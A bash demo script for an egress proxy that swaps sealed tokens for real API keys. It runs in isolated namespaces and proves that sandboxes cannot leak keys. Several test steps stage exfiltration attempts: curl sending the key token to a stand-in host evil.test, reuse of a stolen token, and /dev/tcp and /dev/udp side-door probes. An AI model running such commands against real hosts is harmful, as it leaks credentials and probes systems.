#!/usr/bin/env bash
# Shows on this machine, in under three minutes, what osb-egress does: bash proxy/demo.sh
# Wants Debian 12. Installs what is missing (with sudo when not root), builds into build/demo, then plays in namespaces of
# its own: host and sandboxes, their network, processes and files end with this script, however it ends. Nothing leaves
# the machine. Exits 0 only if every step held.
set -u
export LC_ALL=C.UTF-8 PATH=$PATH:/usr/sbin:/sbin
cd "$(dirname "$0")/.." || exit 1
build=$PWD/build/demo

packages="build-essential cmake ninja-build pkg-config libssl-dev libev-dev libsodium-dev libhiredis-dev libnghttp2-dev
    libc-ares-dev libpsl-dev libidn2-dev libjansson-dev zlib1g-dev libbrotli-dev libzstd-dev uthash-dev node-llhttp
    publicsuffix ca-certificates redis-server nginx iproute2 iptables curl openssl"

bold='' green='' red='' dim='' plain=''
[ -t 1 ] && bold=$'\e[1m' green=$'\e[32m' red=$'\e[31m' dim=$'\e[2m' plain=$'\e[0m'

# --- outside: packages, the programs, the namespaces ----------------------------------------------------------------------
stop() {
    [ -n "${inner:-}" ] && kill -KILL "$inner" 2>/dev/null && wait "$inner" 2>/dev/null
    [ -n "${no_start:-}" ] && as_root rm -f "$no_start"
}
as_root() { if [ "$(id -u)" = 0 ]; then "$@"; else sudo "$@"; fi; }

install_missing() {
    local package missing=()
    for package in $packages; do
        [ "$(dpkg-query -W -f '${db:Status-Status}' "$package" 2>/dev/null)" = installed ] || missing+=("$package")
    done
    [ ${#missing[@]} = 0 ] && return 0
    echo "Installing ${missing[*]}"
    # Debian starts a server when it is installed, unless this file says no. The demo starts its own.
    if [ ! -e /usr/sbin/policy-rc.d ]; then
        no_start=/usr/sbin/policy-rc.d
        printf '#!/bin/sh\nexit 101\n' | as_root tee "$no_start" >/dev/null && as_root chmod 755 "$no_start" || return 1
    fi
    as_root apt-get -o DPkg::Lock::Timeout=600 -qq update &&
        as_root env DEBIAN_FRONTEND=noninteractive apt-get -o DPkg::Lock::Timeout=600 -qq -y --no-install-recommends \
            install "${missing[@]}" >build/demo.log 2>&1 || { tail -n 20 build/demo.log; return 1; }
    [ -z "${no_start:-}" ] || as_root rm -f "$no_start"
    no_start=''
}

outside() {
    trap 'stop; exit 130' INT TERM HUP
    trap stop EXIT
    mkdir -p build || exit 1
    install_missing || { echo "demo.sh: the packages can't be installed" >&2; exit 1; }
    echo "Building into build/demo"
    { cmake -G Ninja -B "$build" -DOSB_PRESET=release -DOSB_TESTS=OFF && cmake --build "$build" --target osb-proxy osbctl
    } >build/demo.log 2>&1 || { tail -n 20 build/demo.log; echo "demo.sh: the build failed" >&2; exit 1; }

    # The first process of a process namespace takes all others along; --kill-child ends it when its parent ends.
    local apart="unshare -Urnmp --fork --kill-child --mount-proc"
    if ! $apart true 2>/dev/null; then # user namespaces may be switched off for all but root, who needs none
        [ "$(id -u)" = 0 ] || exec sudo bash "$PWD/proxy/demo.sh"
        apart="unshare -nmp --fork --kill-child --mount-proc"
    fi
    $apart bash "$PWD/proxy/demo.sh" --inside "$build" &
    inner=$!
    wait "$inner"
    local code=$?
    inner=''
    exit "$code"
}

# --- telling ----------------------------------------------------------------------------------------------------------------
passed=0 failed=0 steps=0
step() { steps=$((steps + 1)); printf '\n%s%d. %s%s\n' "$bold" "$steps" "$*" "$plain"; }
show() { sed "s/^/   $dim|$plain /"; }
proves() { # SENTENCE CONDITION...
    local sentence=$1
    shift
    if "$@" >/dev/null 2>&1; then
        passed=$((passed + 1))
        printf '   %sok%s    %s\n' "$green" "$plain" "$sentence"
    else
        failed=$((failed + 1))
        printf '   %sFAIL%s  %s\n' "$red" "$plain" "$sentence"
    fi
}
await() { # COMMAND...: until it succeeds, 10 s at most
    local end=$((SECONDS + 10))
    until "$@" >/dev/null 2>&1; do
        [ $SECONDS -lt $end ] || return 1
        sleep 0.02
    done
    return 0
}
give_up() { echo "demo.sh: $*" >&2; tail -n 5 ./*.log >&2 2>/dev/null; exit 1; }

# --- the stage ---------------------------------------------------------------------------------------------------------------
make_stage() { # files: a folder that only these namespaces see
    mount -t tmpfs -o mode=755 demo /run && mkdir -p /run/demo && cd /run/demo || exit 1
    printf '127.0.0.1 localhost\n203.0.113.10 api.anthropic.test\n203.0.113.11 github.test\n203.0.113.66 evil.test\n' >hosts
    mount --bind hosts /etc/hosts || give_up "no mounts"
    ip link set lo up
    for ip in 10 11 66; do ip address add "203.0.113.$ip/32" dev lo; done
    echo 0 >/proc/sys/net/ipv4/ip_forward
}

make_origins() { # two servers of the Internet, with certificates of a public CA
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key -out ca.pem -days 2 \
        -subj "/CN=A public CA" 2>/dev/null
    openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout origin.key -out origin.csr -subj "/CN=origin" 2>/dev/null
    openssl x509 -req -in origin.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -out origin.pem -extfile <(
        printf 'subjectAltName=DNS:api.anthropic.test,DNS:github.test,DNS:evil.test\nextendedKeyUsage=serverAuth\n') 2>/dev/null
    cat >nginx.conf <<'END'
user root root;
daemon off;
master_process off;
pid nginx.pid;
events {}
http {
    log_format seen '$host: "$request" x-api-key: $http_x_api_key';
    access_log origin.log seen;
    client_body_temp_path body; proxy_temp_path proxy; fastcgi_temp_path fastcgi; uwsgi_temp_path uwsgi; scgi_temp_path scgi;
    ssl_certificate origin.pem;
    ssl_certificate_key origin.key;
    server {
        listen 203.0.113.10:443 ssl;
        listen 203.0.113.11:443 ssl;
        listen 203.0.113.66:443 ssl;
        listen 203.0.113.66:9443 ssl;
        default_type application/json;
        location / { return 200 '{"type":"message","content":[{"type":"text","text":"Hello from $host"}]}\n'; }
    }
}
END
    nginx -p "$PWD" -c nginx.conf -e nginx.log >nginx.out.log 2>&1 &
    await bash -c 'exec 3<>/dev/tcp/203.0.113.10/443' || give_up "nginx does not start"
}

make_proxy() {
    redis-server --port 0 --unixsocket "$PWD/redis.sock" --save '' --daemonize no >redis.log 2>&1 &
    await redis-cli -s redis.sock ping || give_up "Redis does not start"
    export OSB_REDIS_URL=unix:$PWD/redis.sock OSB_KEY_FILE=$PWD/key
    osbctl key init key || give_up "no key file"
    cat >proxy.conf <<END
redis = unix:$PWD/redis.sock
key_file = $PWD/key
upstream_ca_file = $PWD/ca.pem
allow_net = 203.0.113.0/24
audit_log = $PWD/audit.jsonl
admin = unix:$PWD/admin.sock
workers = 2
END
    osb-proxy -c proxy.conf >proxy.log 2>&1 &
    await curl -sf --unix-socket admin.sock http://proxy/readyz || give_up "the proxy does not get ready"
}

# A sandbox: a network namespace with one cable to the host, and a view of the files that ends at /mnt. It believes that
# every name is at 198.51.100.1, where nobody is.
make_sandbox() { # NAME NUMBER
    local name=$1 net=10.99.$2
    mkdir "$name"
    printf '127.0.0.1 localhost\n198.51.100.1 api.anthropic.test github.test evil.test\n' >"$name/hosts"
    printf -v "id_$name" '%s' "$(osbctl sandbox create "$name" --ip "$net.2" --store agent --env-file "$name/env" \
        --bundle-file "$name/bundle.pem" --bundle-path /mnt/bundle.pem)"
    ip link add "$name" type veth peer name inside || give_up "no veth"
    unshare -nm sleep infinity &
    eval "pid_$name=$!"
    await bash -c '[ "$(readlink /proc/$0/ns/net)" != "$(readlink /proc/self/ns/net)" ]' $! || give_up "no network namespace"
    ip link set inside netns $! || give_up "no cable"
    nsenter -t $! -n -m bash -c "
        mount --bind /run/demo/$name /mnt && mount -t tmpfs none /run && mount --bind /mnt/hosts /etc/hosts &&
            ip link set lo up && ip address add $net.2/24 dev inside && ip link set inside up" || give_up "no sandbox"
    ip address add "$net.1/24" dev "$name"
    ip link set "$name" up
    nsenter -t $! -n ip route add default via "$net.1"
    osbctl rules iptables --sandbox-if "$name" --ip "$net.2" >"$name.rules" && sh "$name.rules" || give_up "no rules"
}
run_in() { # NAME COMMAND: with the environment that the sandbox was given, and no other
    local pid=pid_$1
    nsenter -t "${!pid}" -n -m bash -c 'cd /mnt && mapfile -t given <env &&
        exec env -i PATH="$PATH" "${given[@]}" bash -c "$1"' _ "$2" 2>&1
}
inside() { # NAME COMMAND: the same, aloud; what it said stays in ${said}
    printf '   %s%s$%s %s\n' "$dim" "$1" "$plain" "$2"
    said=$(run_in "$1" "$2")
    [ -z "$said" ] || show <<<"$said"
}
origin_says() { # COUNT: show the newest line of the origin's log once it has so many
    await bash -c '[ "$(wc -l <origin.log)" -ge "$0" ]' "$1"
    logged=$(tail -n 1 origin.log)
    echo "   the origin's log:"
    show <<<"$logged"
}
origin_count() { wc -l <origin.log; }
has_arrived() { run_in alice "$1" >/dev/null && tail -n 1 origin.log | grep -qF "$2"; } # COMMAND VALUE
has() { [[ $1 == *"$2"* ]]; }

# --- the play ------------------------------------------------------------------------------------------------------------------
inside_all() {
    local build=$1 call='curl -sS https://api.anthropic.test/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -d "{}"'
    PATH=$build:$PATH
    make_stage
    make_origins
    make_proxy

    step "The operator stores a key, for one host, and opens two sandboxes"
    local real new number
    real=sk-ant-REAL-$(openssl rand -hex 16)
    {
        echo "osbctl store create agent --egress-allow api.anthropic.test --egress-allow github.test"
        echo "osbctl secret set agent ANTHROPIC_API_KEY --value-file - --allow-host api.anthropic.test"
        echo "osbctl sandbox create alice --ip 10.99.1.2 --store agent --env-file env --bundle-file bundle.pem ..."
        echo "osbctl rules iptables --sandbox-if alice --ip 10.99.1.2 | sh"
    } | sed "s/^/   ${dim}host#$plain /"
    osbctl store create agent --egress-allow api.anthropic.test --egress-allow github.test >/dev/null &&
        printf %s "$real" | osbctl secret set agent ANTHROPIC_API_KEY --value-file - --allow-host api.anthropic.test \
            >/dev/null 2>secret.log || give_up "no secret"
    make_sandbox alice 1
    make_sandbox bob 2
    grep REDIRECT alice.rules | sed "s/^/   $dim|$plain /"
    proves "the key, $real, lies in Redis only sealed" bash -c '
        dumped=$(redis-cli -s redis.sock --scan | while read -r key; do redis-cli -s redis.sock dump "$key"; done) &&
            [[ $dumped == *ANTHROPIC* && $dumped != *"$0"* ]]' "$real"

    step "What the sandbox holds"
    inside alice 'env | grep -e ANTHROPIC -e CURL'
    local token
    token=$(sed -n 's/^ANTHROPIC_API_KEY=//p' alice/env)
    proves "the environment has a sealed token where the key would be" \
        bash -c '[[ $0 =~ ^osb_sealed_[0-9a-f]{32}$ && $1 == *"$0"* && $1 != *"$2"* ]]' "$token" "$said" "$real"

    step "It calls the API, at an address where nobody is"
    number=$(origin_count)
    inside alice "$call"
    proves "the call is answered, over TLS that curl has verified" has "$said" '"text":"Hello from api.anthropic.test"'
    origin_says $((number + 1))
    proves "the origin got the real key" has "$logged" "x-api-key: $real"

    step "It calls a host that is not on the list"
    number=$(origin_count)
    inside alice 'curl -sS -w "\n%{http_code}\n" https://evil.test/ -H "x-api-key: $ANTHROPIC_API_KEY"'
    proves "the answer is a 403" has "$said" $'\n403'
    proves "... and says why" has "$said" '"code":"host_not_allowed"'
    proves "evil.test has heard nothing" [ "$(origin_count)" = "$number" ]

    step "It sends the token to a host that is on the list, but not on the key's"
    number=$(origin_count)
    inside alice 'curl -sS https://github.test/gist -H "x-api-key: $ANTHROPIC_API_KEY"'
    origin_says $((number + 1))
    proves "the token stays a token" has "$logged" "github.test: \"GET /gist HTTP/1.1\" x-api-key: $token"

    step "Another sandbox has stolen the token"
    number=$(origin_count)
    inside bob "curl -sS https://api.anthropic.test/v1/messages -H 'x-api-key: $token' -d '{}'"
    origin_says $((number + 1))
    proves "it is worth nothing there" has "$logged" "x-api-key: $token"
    inside bob "$call"
    origin_says $((number + 2))
    proves "while bob's own token works" has "$logged" "x-api-key: $real"

    step "It tries the side doors"
    local doors='for to in 10.99.1.1/8443 10.99.1.1/8080 203.0.113.66/9443; do
        timeout 0.5 bash -c "exec 3<>/dev/tcp/$to" 2>/dev/null && echo "$to is open" || echo "$to is shut"; done'
    proves "the host itself finds these open: the proxy's two ports, and one of evil.test" \
        bash -c '[ "$(bash -c "$0" | grep -c "is open")" = 3 ]' "$doors"
    inside alice "$doors"
    proves "to the sandbox none is" bash -c '[ "$(grep -c "is shut" <<<"$0")" = 3 ]' "$said"
    inside alice 'timeout 2 bash -c "exec 3<>/dev/udp/203.0.113.66/443; echo quic >&3; read -r <&3" 2>&1 | sed "s/.*: //"'
    proves "QUIC is refused aloud, so clients fall back at once" has "$said" "refused"

    step "The operator changes the key while the sandbox runs"
    new=sk-ant-NEW-$(openssl rand -hex 16)
    echo "   ${dim}host#$plain osbctl secret set agent ANTHROPIC_API_KEY --value-file -"
    printf %s "$new" | osbctl secret set agent ANTHROPIC_API_KEY --value-file - >/dev/null 2>secret.log
    await has_arrived "$call" "$new"
    number=$(origin_count)
    inside alice "$call"
    origin_says $((number + 1))
    proves "the same token now stands for the new key" has "$logged" "x-api-key: $new"

    step "What the operator reads afterwards"
    await bash -c '[ "$(wc -l <audit.jsonl)" -ge 6 ]'
    head -n 6 audit.jsonl | sed -E 's/.*("sandbox":"[^"]*").*("host":"[^"]*","method":"[^"]*","path":"[^"]*").*("status":[^,]*,.*"tokens_denied":[^]]*]).*/\1,\2,\3/' | show
    proves "an audit line for each request, with the names of the keys" grep -q '"secrets":\["ANTHROPIC_API_KEY"\]' audit.jsonl
    proves "no key and no whole token: neither there nor in the proxy's own log" \
        bash -c '[ -s audit.jsonl ] && ! grep -qF -e "$0" -e "$1" -e "$2" audit.jsonl proxy.log' "$real" "$new" "$token"

    printf '\n%s%d steps, %d proofs: %d held, %d failed.%s All of it ran in namespaces that are gone now.\n' \
        "$bold" "$steps" $((passed + failed)) "$passed" "$failed" "$plain"
    [ "$failed" = 0 ]
}

case ${1:-} in
--inside) inside_all "$2" ;;
'') outside ;;
*) sed -n '2,5s/^# //p' "$0"; exit 2 ;;
esac
